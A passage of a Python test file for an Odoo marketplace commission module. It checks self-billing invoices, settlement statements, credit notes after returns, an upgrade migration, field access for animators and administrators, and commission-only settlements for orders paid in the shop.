        html = base64.b64decode(settlement.with_user(self.user_lyon).marketplace_document("bill")["content"]).decode()
        self.assertIn("Autofacturation", html)
        self.assertIn("242 nonies A", html)
        seller = html[html.index("marketplace_self_billing"):]
        for text in (self.member_lyon.name, "33417522100012", "FR23334175221", "01/05/2026"):
            self.assertIn(text, seller)
        commission = base64.b64decode(
            settlement.with_user(self.user_lyon).marketplace_document("invoice")["content"]).decode()
        self.assertNotIn("Autofacturation", commission, "the commission invoice is the hub's own")

    def statement(self, settlement):
        """The statement as the member prints it (Odoo's report route renders it so)."""
        html = self.env["ir.actions.report"].with_user(self.user_lyon)._render_qweb_html(
            "marketplace_commission.action_report_marketplace_settlement", settlement.ids)[0]
        return html.decode()

    def test_a_statement_is_a_snapshot_and_every_document_downloads(self):
        """Issue 19, case 8: a statement shows what its settlement settled — the lines and
        returns it took, with their amounts then — and prints the same after later returns; a
        settlement of returns only lists them, and each of its documents (the credit notes)
        downloads; a self-billed credit note says so."""
        member_order = self.sold({self.v39: 2}, "2026-11-02 10:00:00")
        first = self.settle("2026-11-17 10:00:00")
        printed = self.statement(first)
        self.assertIn(member_order.name, printed)
        line = first.statement_line_ids
        self.assertEqual((line.kind, line.quantity), ("sale", 2))
        self.assertAlmostEqual(line.amount, 179.80, places=2)
        self.assertAlmostEqual(line.commission, 21.58, places=2, msg="12 % of 179,80")
        with freeze_time("2026-11-20 10:00:00"):
            member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit")
        second = self.settle("2026-12-01 10:00:00") - first
        self.assertEqual(self.statement(first), printed, "printed again after the return: the same statement")
        self.assertFalse(second.line_ids, "returns only")
        credited = second.statement_line_ids
        self.assertEqual((credited.kind, credited.quantity), ("return", 1))
        self.assertAlmostEqual(credited.amount, -89.90, places=2)
        self.assertAlmostEqual(credited.commission, -10.79, places=2)
        self.assertIn(member_order.name, self.statement(second))
        mine = second.with_user(self.user_lyon)
        for kind, move_type in (("bill_refund", "in_refund"), ("invoice_refund", "out_refund")):
            document = mine.marketplace_document(kind)
            html = base64.b64decode(document["content"]).decode()
            self.assertIn(self.moves(second, move_type).name, html)
        for kind in ("bill", "invoice"):
            with self.assertRaises(UserError):
                mine.marketplace_document(kind)
        credit_note = base64.b64decode(mine.marketplace_document("bill_refund")["content"]).decode()
        self.assertIn("Autofacturation", credit_note)
        self.assertTrue("Self-billed credit note" in credit_note or "Avoir en autofacturation" in credit_note)
        self.assertNotIn("Vendor Credit Note", credit_note)
        self.assertNotIn("Avoir fournisseur", credit_note)

    def test_the_upgrade_keeps_members_settled_and_statements_printable(self):
        """Issue 19 review: members enrolled before the self-billing date existed are still
        settled after the upgrade (their agreement dated the day they joined), and earlier
        settlements get their statement."""
        member_order = self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        settlement = self.settle("2026-11-17 10:00:00")
        self.env.cr.execute("DELETE FROM marketplace_settlement_line WHERE settlement_id = %s", settlement.ids)
        self.member_lyon.marketplace_self_billing_date = False
        self.env.invalidate_all()
        self.assertFalse(settlement.statement_line_ids)
        run_migration(self.env, "marketplace_commission", "18.0.1.1.0")
        self.assertFalse(self.member_lyon.marketplace_self_billing_date, "others have one: left blank on purpose")
        self.env.cr.execute("UPDATE res_company SET marketplace_self_billing_date = NULL")
        run_migration(self.env, "marketplace_commission", "18.0.1.1.0")
        self.assertEqual(self.member_lyon.marketplace_self_billing_date, self.member_lyon.create_date.date())
        self.assertIn("enrolment", self.member_lyon.partner_id.message_ids[:1].body)
        row = settlement.statement_line_ids
        self.assertEqual(row.order_line_id, member_order.line_ids)
        self.assertAlmostEqual(row.amount, 89.90, places=2)
        self.assertEqual(row.product_name, self.v39.with_context(lang=self.hub.partner_id.lang).display_name)
        self.assertIn(member_order.name, self.statement(settlement))

    def test_animators_read_the_agreement_administrators_record_it(self):
        """Issue 19 review: the member's form shows the self-billing date to animators read-only
        (only administrators record it, a save would fail), editable for administrators."""
        view = "marketplace_base.marketplace_member_view_form"
        with Form(self.member_lyon.with_user(self.animator_user), view=view) as form:
            self.assertEqual(str(form.marketplace_self_billing_date), "2026-01-05")
            with self.assertRaises(AssertionError, msg="read-only for animators"):
                form.marketplace_self_billing_date = "2026-02-01"
        with Form(self.member_lyon.with_user(self.admin_user), view=view) as form:
            form.marketplace_self_billing_date = "2026-02-01"
        self.assertEqual(str(self.member_lyon.marketplace_self_billing_date), "2026-02-01")

    def test_paid_in_the_shop_commission_only(self):
        """Reserve & collect paid at the counter: the member took the money; the settlement
        invoices the commission on it and buys nothing (no payout for it)."""
        member_order = self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        member_order.sudo().payment_state = "in_shop"
        settlement = self.settle("2026-11-17 10:00:00")
        self.assertEqual(settlement.line_ids, member_order.line_ids)
        self.assertFalse(self.moves(settlement, "in_invoice"), "nothing to buy from the member")
        invoice = self.moves(settlement, "out_invoice")
        self.assertAlmostEqual(invoice.amount_untaxed, 10.79, places=2, msg="12 % of 89.90")
        self.assertAlmostEqual(settlement.amount_sales, 0.0)
        self.assertAlmostEqual(settlement.payout, -invoice.amount_total, places=2, msg="the member owes the commission")
